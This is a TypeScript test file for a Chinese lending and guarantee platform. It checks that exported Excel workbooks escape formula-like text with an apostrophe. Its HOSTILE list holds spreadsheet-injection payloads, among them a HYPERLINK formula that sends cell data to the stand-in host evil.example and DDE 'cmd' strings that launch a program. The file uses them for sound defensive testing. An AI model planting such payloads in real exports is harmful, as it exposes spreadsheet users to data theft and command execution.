import { readdirSync, readFileSync } from 'node:fs';
import { join, relative } from 'node:path';
import { buffer } from 'node:stream/consumers';
import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { buildGuaranteeReportWorkbook } from '../src/guarantees/guarantee-report-workbook.js';
import { rejectionsWorkbook } from '../src/ingestion/batches/rejections-workbook.js';
import { buildReportWorkbook } from '../src/oversight/report-workbook.js';
import { whitelistWorkbook } from '../src/precredit/whitelist-workbook.js';
import type { PrecreditResult } from '../src/precredit/whitelist.js';

/**
 * Every workbook the platform hands out carries text from enterprises, people and departments
 * (names, reasons, values as sent). Before, a name such as `=HYPERLINK("http://…","点此")` was
 * written as it was, and a spreadsheet took it for a formula once the cell was touched: now every
 * text cell that a spreadsheet would read as a formula starts with an apostrophe (decision 0055).
 */
const HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"点此查看")', '+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1'];

async function texts(file: Buffer): Promise<string[]> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(file as unknown as ArrayBuffer);
  const out: string[] = [];
  workbook.eachSheet((sheet) => sheet.eachRow((row) => row.eachCell((cell) => void (typeof cell.value === 'string' && out.push(cell.value)))));
  return out;
}

/** No text cell of the file starts as a formula would, and each hostile text is there, behind its apostrophe. */
function expectGuarded(cells: string[], hostile: readonly string[]): void {
  expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c) && !/^[+-]?\d+(\.\d+)?$/.test(c))).toEqual([]);
  // XML reads a carriage return back as a line feed.
  for (const text of hostile) expect(cells.some((c) => c.includes(`'${text.replace(/\r/g, '\n')}`)), JSON.stringify(text)).toBe(true);
}

const result = (name: string, reason: string): PrecreditResult => ({
  bankId: 'b', bankName: '银行', uscc: '91420200MA4K0XY10T', enterpriseId: 'e', enterpriseName: name, modelId: 'm', modelVersion: 1, inputsHash: 'h',
  decision: 'graded', score: 600, grade: 'A', limit: '100000.00', points: [], reasons: [{ code: 'r', text: reason, effect: 'negative', deviation: -1 }],
  listed: true, active: true, evaluatedAt: new Date(), validUntil: new Date(), changeSeq: 1,
});

describe('workbooks handed out neutralise formula text', () => {
  it('预授信白名单: enterprise names and reasons', async () => {
    const cells = await texts(await whitelistWorkbook(HOSTILE.map((h) => result(h, h))));
    expectGuarded(cells, HOSTILE);
    expect(cells).toContain('已评级');
  });

  it('担保业务月报: product names, party labels; a negative amount stays a number', async () => {
    const file = await buildGuaranteeReportWorkbook({
      month: '2026-11',
      companyName: '=1+1',
      products: HOSTILE.map((h, i) => ({ productId: String(i), productName: h, newCount: 1, newAmount: '-10.00', inForceCount: 1, inForceBalance: '1.00', compensated: '0.00', released: '0.00', compensationRatePct: null, ceilingPct: '5.00', aboveCeiling: false })),
      parties: [{ role: 'bank', label: '@bank', amount: '-1.00' }],
    });
    const cells = await texts(file);
    expectGuarded(cells, [...HOSTILE, '@bank']);
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(file as unknown as ArrayBuffer);
    expect(book.getWorksheet('按产品')!.getRow(2).getCell(3).value).toBe(-10);
  });

  it('月度监测报表: bank and district names', async () => {
    const stages = { stages: [], banks: [] };
    const file = await buildReportWorkbook({
      month: '2026-11', asOf: null, generatedAt: new Date(), figures: [], districts: [], trend: { months: [], series: [] },
      funnel: { from: '2026-11-01', to: '2026-11-30', stages: [], precredit: stages },
      bankService: {
        rows: HOSTILE.map((h, i) => ({ bankId: String(i), bankName: h, adapterConfigured: true, connected: true, lastExchangeAt: null, submitted: 1, accepted: 1, decided: 1, approved: 1, acceptanceRate: '1', approvalRate: '1', avgWorkHoursToAcceptance: null, avgWorkDaysToDecision: null, overdue: 0 })),
        overdue: [], thresholds: { acceptHours: 24, decisionHours: 72 },
      },
      rankings: { districts: [{ name: '=区县', disbursed: '1', balance: '1', inclusiveBalance: '1', firstLoans: 0 }], banks: [] },
    });
    expectGuarded(await texts(file), [...HOSTILE, '=区县']);
  });

  it('错误明细: a department\'s values as sent, in the values and in 其他内容', async () => {
    async function* rows() {
      yield { rowNumber: 2, errors: [{ field: 'uscc', code: 'INVALID', message: '统一社会信用代码不正确' }], raw: { uscc: HOSTILE[0], amount: '-3500', extra: HOSTILE[3] } };
    }
    const file = await buffer(rejectionsWorkbook(rows(), [{ name: 'uscc', label: '统一社会信用代码', required: true }, { name: 'amount', label: '金额', required: true }], (error) => { throw error; }));
    const cells = await texts(file as Buffer);
    expectGuarded(cells, [HOSTILE[0]!]);
    expect(cells).toContain('-3500');
    expect(cells.some((c) => c.includes(`extra: ${HOSTILE[3]}`))).toBe(true);
  });

  it('no workbook leaves the platform except through the guard: every writer of .xlsx uses spreadsheet-text', () => {
    const root = join(import.meta.dirname, '..');
    const files = (dir: string): string[] =>
      readdirSync(dir, { withFileTypes: true }).flatMap((e) => (e.isDirectory() ? files(join(dir, e.name)) : e.name.endsWith('.ts') && !e.name.endsWith('.test.ts') ? [join(dir, e.name)] : []));
    const writers = [...files(join(root, 'src')), ...files(join(root, 'bank-adapters'))].filter((f) => /\.xlsx\.write|WorkbookWriter|\.csv\.write/.test(readFileSync(f, 'utf8')));
    const unguarded = writers.filter((f) => !f.endsWith('spreadsheet-text.ts') && !/spreadsheet-text\.js/.test(readFileSync(f, 'utf8')));
    expect(unguarded.map((f) => relative(root, f))).toEqual([]);
    // The one writer of whole workbooks is xlsxBytes; a streamed sheet guards each row before committing it.
    const direct = writers.filter((f) => /\.xlsx\.write(Buffer|File)?\(/.test(readFileSync(f, 'utf8')) && !f.endsWith('spreadsheet-text.ts'));
    expect(direct.map((f) => relative(root, f))).toEqual([]);
  });
});
